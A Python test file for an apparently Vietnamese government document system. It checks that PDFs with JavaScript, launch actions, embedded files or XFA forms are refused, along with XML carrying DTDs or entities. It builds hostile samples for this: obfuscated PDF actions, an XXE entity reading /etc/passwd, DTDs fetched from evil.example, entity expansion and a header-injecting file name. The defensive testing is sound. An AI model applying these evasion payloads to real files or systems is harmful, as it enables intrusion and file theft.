"""Uploaded files: PDFs that run code or carry files are refused however they hide it,
ordinary PDFs pass, XML is parsed without entities, and uploads are served as downloads."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tinhso.core.errors import ValidationFailed
from tinhso.core.files import attachment_response, check_content, check_xml, safe_content_type
from tinhso.core.pdf import check_pdf, may_hold_active_content, may_hold_signatures
from tinhso.documents.pdfs import render_document_pdf


@pytest.fixture(scope="module")
def clean_pdf() -> bytes:
    return render_document_pdf(
        agency_name="Ủy ban nhân dân tỉnh",
        title="Công văn",
        subject="Về việc thử",
        body=["Nội dung"],
    )


def _writer(pdf: bytes) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _open_javascript(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer.add_open_action(JavaScript("app.alert(1)"))
    return _bytes(writer)


def _open_action(action: DictionaryObject):
    def build(pdf: bytes) -> bytes:
        writer = _writer(pdf)
        writer._root_object[_name("/OpenAction")] = action
        return _bytes(writer)

    return build


def _page_aa(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    uri = _action("/URI", URI=TextStringObject("http://evil.example/"))
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): uri})
    return _bytes(writer)


def _embedded_file(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer.add_attachment("virus.exe", b"MZ\x90\x00")
    return _bytes(writer)


def _link_running_javascript(pdf: bytes) -> bytes:
    """A link annotation whose click action chains (/Next) into JavaScript."""
    writer = _writer(pdf)
    chained = _action("/JavaScript", JS=TextStringObject("app.alert(2)"))
    go = _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]))
    go[_name("/Next")] = writer._add_object(chained)
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)]),
            _name("/A"): go,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])
    return _bytes(writer)


def _hex_escaped_names(pdf: bytes) -> bytes:
    """/JavaScript written as /J#61vaScript: a byte search would not see it."""
    raw = _bytes(_writer(pdf))
    return raw.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        1,
    )


def _xfa(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp/>")}
    )
    return _bytes(writer)


def _javascript_in_an_object_stream(_pdf: bytes) -> bytes:
    """The action lives compressed inside an object stream (no "JavaScript" in the bytes)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream()
    action = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert(1)"),
        }
    )
    writer.root[generic.NameObject("/OpenAction")] = writer.add_object(action, obj_stream=stream)
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    assert b"JavaScript" not in data
    return data


def _action_type_as_a_string(pdf: bytes) -> bytes:
    """/S given as a string that spells the name: no /JavaScript name token in the file."""
    raw = _bytes(_writer(pdf))
    return raw.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /Names << /Dests << >> >> /PageMode /UseNone /Next << /S (/JavaScript) >>",
        1,
    )


def _escaped_key_with_a_string(pdf: bytes) -> bytes:
    """/S escaped as /#53 and its value a hex string of "/Launch"."""
    raw = _bytes(_writer(pdf))
    return raw.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /Next << /#53 <2F4C61756E6368> >>",
        1,
    )


HOSTILE = [
    (_open_javascript, "javascript"),
    (_open_action(_action("/Launch", F=TextStringObject("cmd.exe"))), "launch_action"),
    (_open_action(_action("/SubmitForm", F=TextStringObject("http://x/"))), "submit_form"),
    (
        _open_action(_action("/GoToR", F=TextStringObject("\\\\host\\share\\a.pdf"))),
        "remote_link",
    ),
    (_open_action(_action("/URI", URI=TextStringObject("http://x/"))), "automatic_action"),
    (_page_aa, "automatic_action"),
    (_embedded_file, "embedded_file"),
    (_link_running_javascript, "javascript"),
    (_hex_escaped_names, "javascript"),
    (_xfa, "xfa_form"),
    (_javascript_in_an_object_stream, "javascript"),
    (_action_type_as_a_string, "javascript"),
    (_escaped_key_with_a_string, "launch_action"),
]


@pytest.mark.parametrize(("make", "found"), HOSTILE)
def test_the_byte_pre_scan_never_spares_a_hostile_pdf_the_full_walk(clean_pdf, make, found):
    """The pre-scan skips the object walk only when the bytes prove it would find
    nothing: every hostile variant, however it hides, is walked (and refused)."""
    assert may_hold_active_content(make(clean_pdf))


def test_the_byte_pre_scan_spares_an_ordinary_or_sealed_pdf_the_walk(clean_pdf):
    from tests.documents.conftest import make_pdf

    assert not may_hold_active_content(clean_pdf)
    assert not may_hold_active_content(_web_link(clean_pdf))
    assert not may_hold_active_content(make_pdf("Văn bản thường"))
    # tokens are read as pypdf reads them: a longer name is another name
    assert not may_hold_active_content(b"%PDF-1.4 /AAAAAA+DejaVuSerif /FirstChar 32 /JSX")
    assert may_hold_active_content(b"%PDF-1.4 << /AA << >> >>")
    assert may_hold_active_content(b"%PDF-1.4 << /Type\n(/ObjStm) >>")
    assert may_hold_active_content(b"%PDF-1.4 << /Type /ObjStm /N 1 /F#69rst 4 >>")


def _with_form(pdf: bytes, *fields: DictionaryObject) -> PdfReader:
    """`pdf` with an interactive form of `fields` (each field's /Kids given as fields)."""
    writer = _writer(pdf)

    def add(field: DictionaryObject):
        kids = field.pop(_name("/Kids"), None)
        if kids is not None:
            field[_name("/Kids")] = ArrayObject([add(kid) for kid in kids])
        return writer._add_object(field)

    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([add(field) for field in fields])}
    )
    return PdfReader(io.BytesIO(_bytes(writer)))


def _field(name: str, kind: str | None = None, *kids: DictionaryObject) -> DictionaryObject:
    field = DictionaryObject({_name("/T"): TextStringObject(name)})
    if kind:
        field[_name("/FT")] = _name(kind)
    if kids:
        field[_name("/Kids")] = ArrayObject(kids)
    return field


def test_a_signature_field_anywhere_in_the_form_sends_the_pdf_to_the_signature_check(clean_pdf):
    """Only a PDF whose form has no /Sig field is spared pyHanko's parse."""
    assert not may_hold_signatures(PdfReader(io.BytesIO(clean_pdf)))
    text_only = _with_form(clean_pdf, _field("SoKyHieu", "/Tx"), _field("Ngay", "/Tx"))
    assert not may_hold_signatures(text_only)
    assert may_hold_signatures(_with_form(clean_pdf, _field("Ngay", "/Tx"), _field("Ky", "/Sig")))
    # a kid of a field, its type its own or inherited from its parent
    nested = _field("Nhom", None, _field("Con", None, _field("Ky", "/Sig")))
    assert may_hold_signatures(_with_form(clean_pdf, nested))
    assert may_hold_signatures(_with_form(clean_pdf, _field("Cha", "/Sig", _field("Ky"))))
    # a form that cannot be walked plainly: the signature check decides
    writer = _writer(clean_pdf)
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): NumberObject(3)})
    assert may_hold_signatures(PdfReader(io.BytesIO(_bytes(writer))))


def test_the_bytes_of_a_pdf_spare_the_walk_of_its_form_only_when_they_name_no_signature(
    clean_pdf,
):
    """`may_hold_signatures(reader, data)`: the same answer as the walk of the form for
    every form above, and True for any spelling of /Sig pypdf or pyHanko would read as
    a signature field (escaped name, string, hex string, a type given by reference) or
    objects the bytes do not show (an object stream)."""
    text_only = _with_form(clean_pdf, _field("SoKyHieu", "/Tx"), _field("Ngay", "/Tx"))
    signed = _with_form(clean_pdf, _field("Ngay", "/Tx"), _field("Ky", "/Sig"))
    nested = _with_form(clean_pdf, _field("Nhom", None, _field("Con", None, _field("Ky", "/Sig"))))
    for reader, expected in ((text_only, False), (signed, True), (nested, True)):
        data = reader.stream.getvalue()
        assert may_hold_signatures(reader, data) is expected
        assert may_hold_signatures(reader) is expected
    assert not may_hold_signatures(PdfReader(io.BytesIO(clean_pdf)), clean_pdf)
    from tinhso.core.pdf import _bytes_may_name_a_signature as may_name

    assert not may_name(b"%PDF-1.4 << /FT /Tx /T (Ngay) /SigFlags 0 /Type /Annot >>")
    for spelled in (
        b"<< /FT /Sig >>",
        b"<< /FT/Sig>>",
        b"<< /FT /S#69g >>",
        b"<< /FT (/Sig) >>",
        b"<< /FT <2F536967> >>",
        b"<< /FT 12 0 R >>",
        b"<< /F#54 /Tx >>",
        b"<< /Type /ObjStm /N 3 >>",
        b"<< /Type /Obj#53tm >>",
        b"<< /Type (/ObjStm) >>",
    ):
        assert may_name(b"%PDF-1.4 " + spelled), spelled


@pytest.mark.parametrize(("make", "found"), HOSTILE)
def test_a_pdf_with_active_content_is_refused(clean_pdf, make, found):
    data = make(clean_pdf)
    with pytest.raises(ValidationFailed) as err:
        check_pdf(data)
    assert err.value.code == "pdf_active_content"
    assert found in err.value.details["found"]
    with pytest.raises(ValidationFailed):
        check_content(ext="pdf", data=data)


def _open_at_first_page(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer._root_object[_name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, _name("/XYZ"), NumberObject(0), NumberObject(800)]
    )
    return _bytes(writer)


def _web_link(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)]),
            _name("/A"): _action("/URI", URI=TextStringObject("https://dichvucong.gov.vn/")),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])
    return _bytes(writer)


def _owner_password_only(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    writer.encrypt(user_password="", owner_password="chu-so-huu")
    return _bytes(writer)


@pytest.mark.parametrize(
    "make",
    [lambda pdf: pdf, _open_at_first_page, _web_link, _owner_password_only],
    ids=["rendered", "open-at-page", "web-link", "owner-password-only"],
)
def test_an_ordinary_pdf_is_accepted(clean_pdf, make):
    check_pdf(make(clean_pdf))


def test_a_pdf_locked_with_a_password_or_damaged_is_refused(clean_pdf):
    writer = _writer(clean_pdf)
    writer.encrypt(user_password="mat-khau", owner_password="chu")
    with pytest.raises(ValidationFailed) as err:
        check_pdf(_bytes(writer))
    assert err.value.code == "encrypted_pdf"
    for damaged in (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", b"%PDF-", b""):
        with pytest.raises(ValidationFailed) as err:
            check_pdf(damaged)
        assert err.value.code == "invalid_pdf"


# ---------------------------------------------------------------------------------------
# XML


def test_well_formed_xml_is_accepted():
    check_xml('<?xml version="1.0" encoding="UTF-8"?><a><b>Nguyễn Văn A</b></a>'.encode())
    check_xml("<a/>".encode("utf-16"))


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
        b'<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;&x;&x;">]><a>&z;</a>',
    ],
    ids=["external-entity", "external-dtd", "parameter-entity", "entity-expansion"],
)
def test_xml_with_a_dtd_or_entities_is_refused(data):
    with pytest.raises(ValidationFailed) as err:
        check_xml(data)
    assert err.value.code == "xml_dtd_forbidden"


@pytest.mark.parametrize("data", [b"<a><b></a>", b"", b"not xml", b"<a/><b/>"])
def test_xml_that_is_not_well_formed_is_refused(data):
    with pytest.raises(ValidationFailed) as err:
        check_content(ext="xml", data=data)
    assert err.value.code == "invalid_xml"


# ---------------------------------------------------------------------------------------
# Serving


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("giay-to.pdf", "application/pdf"),
        ("anh.PNG", "image/png"),
        ("to-khai.xml", "application/xml"),
        ("trang.html", "application/octet-stream"),
        ("anh.svg", "application/octet-stream"),
        ("khong-duoi", "application/octet-stream"),
    ],
)
def test_uploads_are_served_as_downloads_with_a_type_chosen_by_us(name, content_type):
    assert safe_content_type(name) == content_type
    for content in (b"data", io.BytesIO(b"data")):
        response = attachment_response(content, filename=name)
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["Content-Type"] == content_type
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_a_hostile_file_name_cannot_break_the_header():
    response = attachment_response(b"x", filename='a"\r\nSet-Cookie: x=1\x00.pdf')
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert response["Content-Type"] == "application/pdf"
